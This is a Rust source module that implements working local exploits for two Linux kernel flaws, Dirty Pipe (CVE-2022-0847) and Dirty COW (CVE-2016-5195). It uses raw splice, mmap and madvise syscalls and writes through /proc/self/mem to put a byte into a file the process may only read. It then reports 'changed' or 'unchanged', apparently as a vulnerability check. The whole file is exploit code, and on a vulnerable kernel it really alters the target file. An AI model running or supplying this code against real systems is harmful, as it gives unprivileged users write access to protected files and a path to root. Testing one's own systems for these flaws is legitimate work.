//! Two mistakes of the kernel that let anybody write to files that they can only read.

use std::fs::{self, File};
use std::io::{Read as _, Seek as _, SeekFrom, Write as _};
use std::os::fd::AsRawFd as _;
use std::sync::atomic::{AtomicBool, Ordering};

use crate::sys::{address_mut, call};

const PIPE_BYTES: usize = 65_536;
const ROUNDS: usize = 20_000;

/// CVE-2022-0847: pages of a pipe that were once written to are taken for writable after a splice.
pub fn dirty_pipe(path: &str) {
    let before = fs::read(path).unwrap_or_default();
    if let Ok((mut reader, mut writer)) = std::io::pipe() {
        let mut all = vec![0; PIPE_BYTES];
        let _ = writer.write_all(&all);
        let _ = reader.read_exact(&mut all);
        if let Ok(file) = File::open(path) {
            let mut offset = 0_i64;
            call(275, &[file.as_raw_fd().into(), address_mut(&mut offset), writer.as_raw_fd().into(), 0, 1, 0]);
            let _ = writer.write_all(b"X");
        }
    }
    tell(path, &before);
}

/// CVE-2016-5195: writing to a private mapping through /proc/self/mem, while its copies are thrown away.
pub fn dirty_cow(path: &str) {
    let before = fs::read(path).unwrap_or_default();
    let (Ok(file), Ok(mut memory)) = (File::open(path), fs::OpenOptions::new().write(true).open("/proc/self/mem"))
    else {
        return println!("cannot be tried");
    };
    // PROT_READ, MAP_PRIVATE
    let mapped = call(9, &[0, 4096, 1, 2, file.as_raw_fd().into(), 0]);
    let done = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                // MADV_DONTNEED
                call(28, &[mapped, 4096, 4]);
            }
        });
        for _ in 0..ROUNDS {
            let _ = memory.seek(SeekFrom::Start(mapped as u64)).and_then(|_| memory.write(b"X"));
        }
        done.store(true, Ordering::Relaxed);
    });
    tell(path, &before);
}

fn tell(path: &str, before: &[u8]) {
    let same = !before.is_empty() && fs::read(path).is_ok_and(|after| after == before);
    println!("{}", if same { "unchanged" } else { "changed" });
}
